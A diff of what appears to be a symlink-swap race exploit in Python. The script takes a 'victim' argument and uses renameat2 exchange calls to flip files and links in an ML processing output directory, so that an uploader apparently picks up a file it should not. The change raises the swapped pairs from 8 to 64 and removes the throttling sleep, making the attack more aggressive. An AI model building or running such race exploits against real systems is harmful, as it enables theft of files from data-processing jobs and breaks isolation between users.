@@ -9,7 +9,7 @@ victim, seconds = sys.argv[1], float(sys.argv[2])
 out = "/opt/ml/processing/out"
 libc = ctypes.CDLL(None, use_errno=True)
 pairs = []
-for number in range(8):
+for number in range(64):
     file, link = f"{out}/file-{number}", f"{out}/link-{number}"
     with open(file, "w") as made:
         made.write("own")
@@ -25,6 +25,4 @@ until, count = time.monotonic() + seconds, 0
 while time.monotonic() < until:
     for one, other in pairs:
         count += not libc.renameat2(-100, one, -100, other, 2)
-    if count % 4096 < len(pairs):
-        time.sleep(0.02)  # a name that stays what it is for a moment is what gets uploaded
 print("exchanged", count)
